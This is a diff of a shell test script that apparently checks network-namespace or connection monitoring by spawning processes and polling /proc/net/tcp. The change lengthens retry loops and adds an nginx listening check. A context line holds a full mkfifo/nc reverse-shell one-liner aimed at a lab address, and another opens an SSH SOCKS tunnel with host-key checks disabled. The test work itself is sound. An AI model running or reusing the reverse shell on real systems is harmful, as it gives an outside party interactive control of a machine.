@@ -119,7 +119,7 @@ wait_ready lis2
 bg fifo "${IN[@]}" bash -c 'rm -f "$0/f"; mkfifo "$0/f"; cat "$0/f" | /bin/sh -i 2>&1 | "$0/nc" pipe 10.77.40.2 5555 >"$0/f"' "$RD"
 FIFOBASH=$BG_PID
 FSH= FNC=
-for _ in $(seq 200); do
+for _ in $(seq 400); do
 	FSH=$(ps -e -o pid=,ppid=,comm= | awk -v p="$FIFOBASH" '$2 == p && $3 == "sh" { print $1 }')
 	FNC=$(ps -e -o pid=,ppid=,comm= | awk -v p="$FIFOBASH" '$2 == p && $3 == "nc" { print $1 }')
 	[ -n "$FSH" ] && [ -n "$FNC" ] && grep -q '^ready' "$T/fifo.err" 2>/dev/null && break
@@ -135,7 +135,7 @@ if command -v ssh >/dev/null 2>&1; then
 	wait_ready sshd22
 	bg sshneg "${IN[@]}" script -qec "exec ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=120 -D 1080 admin@10.77.40.2" /dev/null
 	SCRIPTPID=$BG_PID
-	for _ in $(seq 100); do
+	for _ in $(seq 400); do
 		SSHPID=$(ps -e -o pid=,ppid=,comm= | awk -v p="$SCRIPTPID" '$2 == p && $3 == "ssh" { print $1 }')
 		[ -n "$SSHPID" ] && break
 		sleep 0.05
@@ -169,15 +169,22 @@ http {
 EOF
 	bg nginx "${IN[@]}" /usr/sbin/nginx -c "$T/nginx.conf" -g "daemon off; pid $T/nginx.pid;"
 	NGX=$BG_PID
-	for _ in $(seq 100); do
-		[ -s "$T/nginx.pid" ] && break
+	up=0
+	for _ in $(seq 400); do
+		# 10.77.40.1:8080 listening (state 0A) in the namespace
+		if awk '$2 == "01284D0A:1F90" && $4 == "0A" { f = 1 } END { exit !f }' \
+		    "/proc/$NSPID/net/tcp"; then
+			up=1
+			break
+		fi
 		sleep 0.05
 	done
+	[ "$up" = 1 ] || fail "nginx does not listen on 10.77.40.1:8080: $(cat "$T/nginx.err" "$T/nginx.out" 2>/dev/null | head -5)"
 	bg client "${IN[@]}" "$HELPERS/relay" get 10.77.40.1 8080
 	wait_ready client
 	# the worker connected to the app
 	up=0
-	for _ in $(seq 200); do
+	for _ in $(seq 400); do
 		# 10.77.40.2:9001 as /proc/net/tcp writes it, ESTABLISHED
 		if awk '$3 == "02284D0A:2329" && $4 == "01" { f = 1 } END { exit !f }' \
 		    "/proc/$NSPID/net/tcp"; then
